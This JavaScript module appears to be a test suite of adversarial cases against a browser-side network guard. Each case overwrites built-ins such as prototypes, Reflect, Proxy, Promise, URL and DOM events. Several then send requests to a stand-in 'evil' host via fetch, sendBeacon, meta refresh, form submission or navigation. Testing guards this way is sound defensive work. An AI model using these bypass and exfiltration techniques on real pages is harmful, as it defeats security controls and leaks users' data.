// Built-ins replaced under the guard's feet. Each then calls all that there is to call.
//
// `send` is plain code: what a script replaced breaks the guard, if it breaks anything, and not the attack.
export default {
  "Object.prototype's getters": ({ send }) => {
    const descriptor = Object.assign(Object.create(null), { get: () => undefined, set() {}, configurable: true });
    for (const name of ["apply", "construct", "judge", "read", "written", "value", "writable", "enumerable"])
      Object.defineProperty(Object.prototype, name, descriptor);
    send();
  },
  "Object.prototype's indices": ({ own, send }) => {
    for (const at of [0, 1, 2, 3])
      Object.defineProperty(Object.prototype, at, { get: () => own, set() {}, configurable: true });
    send();
  },
  "Object.prototype's then": ({ own, send }) => {
    Object.defineProperty(Object.prototype, "then", { value: undefined, writable: true, configurable: true });
    Object.prototype.toJSON = () => own;
    send();
  },
  "Object.prototype's Symbol.toPrimitive": ({ own, send }) => {
    Object.prototype[Symbol.toPrimitive] = () => own;
    Object.prototype[Symbol.iterator] = function* () {};
    Object.prototype[Symbol.toStringTag] = "URL";
    send();
  },
  "Object.prototype's answers": ({ send }) => {
    Object.assign(Object.prototype, {
      allowed: true,
      reason: "listed",
      matched: "'self'",
      installed: false,
      enforce: false,
      lockdown: false,
    });
    send();
  },
  "Object.prototype's __proto__": ({ send }) => {
    Object.defineProperty(Object.prototype, "__proto__", { get: () => null, set() {}, configurable: true });
    send();
  },
  "Object's functions": ({ own, send }) => {
    for (const name of Object.getOwnPropertyNames(Object))
      if (typeof Object[name] === "function" && name !== "defineProperty") Object[name] = () => ({ value: () => own });
    send();
  },
  "Array.prototype's functions": ({ own, send }) => {
    for (const name of Object.getOwnPropertyNames(Array.prototype))
      if (typeof Array.prototype[name] === "function") Array.prototype[name] = () => [own];
    send();
  },
  "Array.prototype's iterator": ({ own, send }) => {
    Array.prototype[Symbol.iterator] = function* () {
      yield own;
    };
    send();
  },
  "an array iterator's next": ({ own, send }) => {
    Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true, value: own });
    send();
  },
  "Array.prototype's indices": ({ own, send }) => {
    for (const at of [0, 1, 2])
      Object.defineProperty(Array.prototype, at, { get: () => own, set() {}, configurable: true });
    send();
  },
  "Array.prototype's prototype": ({ own, send }) => {
    Object.setPrototypeOf(
      Array.prototype,
      new Proxy(Object.prototype, {
        get: (t, key) => (typeof key === "string" && key >= 0 ? own : t[key]),
        has: () => true,
      }),
    );
    send();
  },
  "Array's species": ({ own, send }) => {
    Object.defineProperty(Array, Symbol.species, {
      value: function () {
        return [own];
      },
    });
    Array.isArray = () => false;
    Array.from = () => [own];
    send();
  },
  "String.prototype's functions": ({ own, send }) => {
    for (const name of Object.getOwnPropertyNames(String.prototype))
      if (typeof String.prototype[name] === "function" && name !== "constructor") String.prototype[name] = () => own;
    send();
  },
  "String.prototype's iterator": ({ send }) => {
    String.prototype[Symbol.iterator] = function* () {};
    send();
  },
  "String itself": ({ own, send }) => {
    globalThis.String = Object.assign(() => own, {
      prototype: String.prototype,
      raw: () => own,
      fromCharCode: () => "a",
      fromCodePoint: () => "a",
    });
    send();
  },
  "RegExp.prototype": ({ send }) => {
    RegExp.prototype.exec = () => null;
    RegExp.prototype.test = () => true;
    RegExp.prototype[Symbol.match] = RegExp.prototype[Symbol.replace] = RegExp.prototype[Symbol.split] = () => null;
    Object.defineProperty(RegExp.prototype, "flags", { get: () => "y" });
    send();
  },
  "Function.prototype's call, apply and bind": ({ send }) => {
    const yes = () => true;
    Function.prototype.call = Function.prototype.apply = Function.prototype.bind = yes;
    send();
  },
  "Function.prototype's prototype": ({ send }) => {
    Object.setPrototypeOf(
      Function.prototype,
      new Proxy(Object.prototype, { get: (t, key) => t[key] ?? (() => true), has: () => true }),
    );
    send();
  },
  Reflect: ({ send }) => {
    for (const name of [
      "apply",
      "construct",
      "get",
      "set",
      "has",
      "defineProperty",
      "getOwnPropertyDescriptor",
      "getPrototypeOf",
      "ownKeys",
    ])
      Reflect[name] = () => true;
    send();
  },
  Proxy: ({ send }) => {
    globalThis.Proxy = function (target) {
      return target;
    };
    send();
  },
  Symbol: ({ send }) => {
    globalThis.Symbol = Object.assign(() => "x", { iterator: "x", toPrimitive: "y", hasInstance: "z" });
    send();
  },
  "Promise.prototype": ({ send }) => {
    for (const name of ["then", "catch", "finally"]) {
      const before = Promise.prototype[name];
      Promise.prototype[name] = function (...all) {
        return before.call(this, ...all.map(() => () => {}));
      };
    }
    send();
  },
  Promise: ({ send }) => {
    Promise.reject = Promise.resolve = () => ({ catch() {} });
    Object.defineProperty(Promise, Symbol.species, {
      get() {
        throw 1;
      },
    });
    Promise.prototype.constructor = function () {
      throw 1;
    };
    send();
  },
  "Error.prepareStackTrace": ({ send }) => {
    const seen = [];
    Error.stackTraceLimit = 100;
    Error.prepareStackTrace = (_error, sites) => {
      for (const site of sites) seen.push(site.getFunction?.(), site.getThis?.());
      throw 1;
    };
    send();
    for (const one of seen) {
      if (typeof one === "function" && /native/.test(`${one}`))
        try {
          one("x");
        } catch {}
    }
  },
  "Error's stack": ({ send }) => {
    Object.defineProperty(Error, "stackTraceLimit", {
      get() {
        throw 1;
      },
      set() {},
    });
    Object.defineProperty(Error.prototype, "stack", {
      get: () => "",
      set() {
        throw 1;
      },
      configurable: true,
    });
    send();
  },
  "TypeError and DOMException": ({ send }) => {
    globalThis.TypeError =
      globalThis.DOMException =
      globalThis.Error =
        function () {
          throw 1;
        };
    send();
  },
  "WeakMap, Map, Set and WeakRef": ({ send }) => {
    for (const type of [WeakMap, Map, Set, WeakSet])
      for (const name of ["get", "set", "has", "add", "delete"])
        if (type.prototype[name]) type.prototype[name] = () => undefined;
    WeakRef.prototype.deref = () => undefined;
    send();
  },
  FinalizationRegistry: ({ send }) => {
    FinalizationRegistry.prototype.register = (held) => {
      throw held;
    };
    FinalizationRegistry.prototype.unregister = () => true;
    send();
  },
  "WebAssembly's memory": ({ send }) => {
    Object.defineProperty(WebAssembly.Memory.prototype, "buffer", {
      get: () => new ArrayBuffer(1 << 22),
      configurable: true,
    });
    WebAssembly.Memory.prototype.grow = () => 0;
    send();
  },
  "WebAssembly's table": ({ own, send }) => {
    WebAssembly.Table.prototype.get = () => () => own;
    WebAssembly.Table.prototype.set = () => {};
    WebAssembly.Table.prototype.grow = () => 0;
    send();
  },
  "WebAssembly's exports": ({ send }) => {
    Object.defineProperty(WebAssembly.Instance.prototype, "exports", {
      get: () => new Proxy({}, { get: () => () => 1 }),
    });
    globalThis.WebAssembly = {};
    send();
  },
  "WebAssembly's exported functions": ({ send }) => {
    Object.setPrototypeOf(Function.prototype, { valueOf: () => 1, toString: () => "" });
    send();
  },
  TextDecoder: ({ own, send }) => {
    TextDecoder.prototype.decode = () => own;
    globalThis.TextDecoder = class {
      decode() {
        return own;
      }
    };
    send();
  },
  TextEncoder: ({ own, send }) => {
    const { encodeInto } = TextEncoder.prototype;
    TextEncoder.prototype.encodeInto = function (_, view) {
      return encodeInto.call(this, own, view);
    };
    TextEncoder.prototype.encode = () => new Uint8Array();
    send();
  },
  "typed arrays": ({ send }) => {
    const typed = Object.getPrototypeOf(Uint8Array.prototype);
    for (const name of ["subarray", "set", "slice", "fill", "at"]) typed[name] = () => new Uint8Array(64);
    for (const name of ["length", "byteLength", "byteOffset", "buffer"])
      Object.defineProperty(typed, name, { get: () => 0 });
    Object.defineProperty(typed, Symbol.toStringTag, { get: () => undefined });
    send();
  },
  "ArrayBuffer and DataView": ({ send }) => {
    Object.defineProperty(ArrayBuffer.prototype, "byteLength", { get: () => 0 });
    Object.defineProperty(ArrayBuffer.prototype, "detached", { get: () => true });
    for (const name of ["getInt32", "setInt32", "getUint32", "setUint32", "setFloat64"])
      DataView.prototype[name] = () => 0;
    send();
  },
  "structuredClone and JSON": ({ own, send }) => {
    globalThis.structuredClone = () => ({});
    JSON.stringify = () => `"${own}"`;
    JSON.parse = () => ({ allowed: true });
    send();
  },
  "Date and Math": ({ send }) => {
    Date.now = () => NaN;
    performance.now = () => NaN;
    Math.random = Math.floor = () => 0;
    send();
  },
  "Date that throws": ({ send }) => {
    Date.now = () => {
      throw 1;
    };
    send();
  },
  "URL.prototype": ({ own, send }) => {
    for (const name of ["href", "origin", "protocol", "host", "hostname", "port", "pathname"])
      Object.defineProperty(URL.prototype, name, { get: () => own, configurable: true });
    URL.prototype.toString = URL.prototype.toJSON = () => own;
    URL.parse = () => ({ href: own });
    send();
  },
  "URL itself": ({ own, send }) => {
    const Before = URL;
    globalThis.URL = function () {
      return new Before(own);
    };
    send();
  },
  "Request and Headers": ({ own, send }) => {
    Object.defineProperty(Request.prototype, "url", { get: () => own });
    const Before = Request;
    globalThis.Request = function () {
      return new Before(own);
    };
    globalThis.Headers = function () {
      throw 1;
    };
    send();
  },
  "a document's addresses": ({ own, send }) => {
    Object.defineProperty(Node.prototype, "baseURI", { get: () => own });
    Object.defineProperty(Document.prototype, "URL", { get: () => own });
    Object.defineProperty(Document.prototype, "head", { get: () => null });
    send();
  },
  "a user's activation": ({ evil }) => {
    Object.defineProperty(UserActivation.prototype, "isActive", { get: () => true });
    Object.defineProperty(Navigator.prototype, "userActivation", {
      get: () => ({ isActive: true, hasBeenActive: true }),
    });
    Object.defineProperty(window, "navigator", {
      get: () => ({ userActivation: { isActive: true } }),
      configurable: true,
    });
    open(evil);
    location = evil;
  },
  events: ({ add, evil }) => {
    for (const [type, name] of [
      ["Event", "type"],
      ["Event", "target"],
      ["NavigateEvent", "destination"],
      ["NavigateEvent", "userInitiated"],
    ])
      if (globalThis[type]) Object.defineProperty(globalThis[type].prototype, name, { get: () => true });
    Event.prototype.composedPath = () => [];
    Event.prototype.preventDefault = Event.prototype.stopImmediatePropagation = () => {};
    add("a", { href: evil, target: "_blank" }).click();
    location = evil;
  },
  "nodes and attributes": ({ evil }) => {
    for (const name of ["localName", "namespaceURI", "shadowRoot"])
      Object.defineProperty(Element.prototype, name, { get: () => "b" });
    for (const name of ["parentNode", "ownerDocument", "baseURI"])
      Object.defineProperty(Node.prototype, name, { get: () => null });
    Element.prototype.getAttribute = Element.prototype.getAttributeNS = () => null;
    const a = document.createElement("a");
    a.href = evil;
    a.target = "_blank";
    a.click();
  },
  "a mutation's records": ({ evil }) => {
    for (const name of ["addedNodes", "target", "type"])
      Object.defineProperty(MutationRecord.prototype, name, { get: () => [] });
    Object.defineProperty(NodeList.prototype, "length", { get: () => 0 });
    NodeList.prototype.item = () => null;
    Element.prototype.querySelectorAll = () => [];
    Element.prototype.remove = () => {};
    const s = document.createElement("meta");
    s.setAttributeNS(null, "http-equiv", "refresh");
    s.setAttributeNS(null, "content", `0; url=${evil}`);
    document.head.append(s);
  },
  listeners: ({ add, evil }) => {
    EventTarget.prototype.addEventListener = EventTarget.prototype.removeEventListener = () => {};
    add("form", { action: evil, target: "_blank" }).requestSubmit();
    add("a", { href: evil, target: "_blank" }).click();
  },
  "a caller's arguments": `({ evil, own }) => {
    const seen = [];
    const url = { toString: function f() { try { seen.push(f.caller, f.arguments, arguments.callee.caller); } catch {} return own; } };
    try { fetch(url); navigator.sendBeacon(url); } catch {}
    for (const one of seen) if (typeof one === "function") try { one(evil); one("GET", evil); } catch {}
    navigator.sendBeacon(evil, "x");
  }`,
  "an exhausted stack": ({ evil }) => {
    let left = 40;
    const deep = () => {
      try {
        deep();
      } catch {}
      if (left > 0)
        try {
          fetch(evil, { mode: "no-cors" }).catch(() => {});
          left--;
        } catch {}
      if (left > 0)
        try {
          navigator.sendBeacon(evil, "x");
          left--;
        } catch {}
    };
    deep();
  },
  "an exhausted memory": ({ evil }) => {
    const long = `${evil}/${"x".repeat(1 << 20)}`;
    for (let at = 0; at < 4; at++)
      try {
        navigator.sendBeacon(long + at, "x");
      } catch {}
    try {
      fetch(evil, { mode: "no-cors" }).catch(() => {});
    } catch {}
  },
  "a storm of violations": ({ send }) => {
    for (let at = 0; at < 3_000; at++) navigator.sendBeacon(`http://127.0.0.1:1/${at}`, "x");
    send();
  },
};
